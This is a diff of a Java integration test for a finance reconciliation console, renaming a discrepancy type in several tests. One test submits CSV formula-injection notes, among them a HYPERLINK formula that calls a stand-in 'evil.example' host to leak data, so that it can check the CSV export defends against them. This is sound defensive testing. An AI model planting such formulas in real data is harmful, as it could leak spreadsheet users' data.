@@ -120,7 +120,7 @@ class ReconciliationPagesIT {
 				Map.of("assignee", proposer.login()), "/reconciliation/discrepancies/" + missing + "/resolve", Map.of("note", "x"),
 				"/reconciliation/discrepancies/" + missing + "/accept", Map.of("note", "x"),
 				"/reconciliation/discrepancies/" + missing + "/void", Map.of("note", "x"),
-				"/reconciliation/discrepancies/" + p.id(DiscrepancyType.STATUS_MISMATCH) + "/propose",
+				"/reconciliation/discrepancies/" + p.id(DiscrepancyType.REFUND_UNKNOWN) + "/propose",
 				Map.of("kind", "MARK_REFUNDED", "note", "x"), dayPath(p) + "/sign-off", Map.of());
 		Map<String, Map<String, String>> decisions = Map.of("/reconciliation/proposals/" + proposal + "/approve",
 				Map.of("note", "ok"), "/reconciliation/proposals/" + proposal + "/reject", Map.of("note", "no"));
@@ -179,7 +179,7 @@ class ReconciliationPagesIT {
 		assertThat(href(second, "page-newest")).doesNotContain("before=");
 
 		String open = finance.get("/reconciliation?account=" + ACCOUNT + "&status=open").body();
-		assertThat(rowIds(open, "case")).contains(a.id(DiscrepancyType.LATE_PAYMENT), a.id(DiscrepancyType.STATUS_MISMATCH),
+		assertThat(rowIds(open, "case")).contains(a.id(DiscrepancyType.LATE_PAYMENT), a.id(DiscrepancyType.REFUND_UNKNOWN),
 				a.id(DiscrepancyType.MISSING_AT_PROVIDER), a.id(DiscrepancyType.MISSING_LOCALLY),
 				b.id(DiscrepancyType.MISSING_AT_PROVIDER));
 		assertThat(rowText(open, "case-" + a.id(DiscrepancyType.LATE_PAYMENT))).contains(a.day().toString())
@@ -376,7 +376,7 @@ class ReconciliationPagesIT {
 	@Test
 	void aRefundIsMarkedOnlyAfterApprovalAndARejectionNeedsAReasonAndChangesNothing() {
 		Planted p = days.planted();
-		long mismatch = p.id(DiscrepancyType.STATUS_MISMATCH);
+		long mismatch = p.id(DiscrepancyType.REFUND_UNKNOWN);
 		TestUser maker = users.create(Role.FINANCE);
 		TestUser admin = users.create(Role.ADMIN);
 		ConsoleSession makerSession = login(maker).csrfFrom(dayPath(p));
@@ -457,7 +457,7 @@ class ReconciliationPagesIT {
 		String hyperlink = "=HYPERLINK(\"http://evil.example/?leak\",\"click\")";
 		act(finance, "/reconciliation/discrepancies/" + p.id(DiscrepancyType.MISSING_AT_PROVIDER) + "/resolve", Map.of("note", hyperlink), p);
 		act(finance, "/reconciliation/discrepancies/" + p.id(DiscrepancyType.MISSING_LOCALLY) + "/accept", Map.of("note", "@SUM(1+1)"), p);
-		act(finance, "/reconciliation/discrepancies/" + p.id(DiscrepancyType.STATUS_MISMATCH) + "/void", Map.of("note", "+1+1"), p);
+		act(finance, "/reconciliation/discrepancies/" + p.id(DiscrepancyType.REFUND_UNKNOWN) + "/void", Map.of("note", "+1+1"), p);
 		act(finance, "/reconciliation/discrepancies/" + p.id(DiscrepancyType.LATE_PAYMENT) + "/accept", Map.of("note", "-2+3, kept"), p);
 
 		HttpResponse<String> response = finance.get(dayPath(p) + "/export.csv");
@@ -519,7 +519,7 @@ class ReconciliationPagesIT {
 			assertThat(late.getCellText(1)).isEqualTo("LATE_PAYMENT");
 			assertThat(late.getCellAsNumber(5)).hasValueSatisfying(n -> assertThat(n).isEqualByComparingTo(new BigDecimal("7.00")));
 			assertThat(late.getCellText(10)).isEqualTo("OPEN");
-			assertThat(rows.stream().filter(r -> r.getCellCount() > 2 && "LATE_PAYMENT,STATUS_MISMATCH,MISSING_AT_PROVIDER,MISSING_LOCALLY"
+			assertThat(rows.stream().filter(r -> r.getCellCount() > 2 && "LATE_PAYMENT,REFUND_UNKNOWN,MISSING_AT_PROVIDER,MISSING_LOCALLY"
 				.contains(Optional.ofNullable(r.getCellText(1)).orElse("#")) && !r.getCellText(1).isEmpty())).hasSize(4);
 		}
 	}
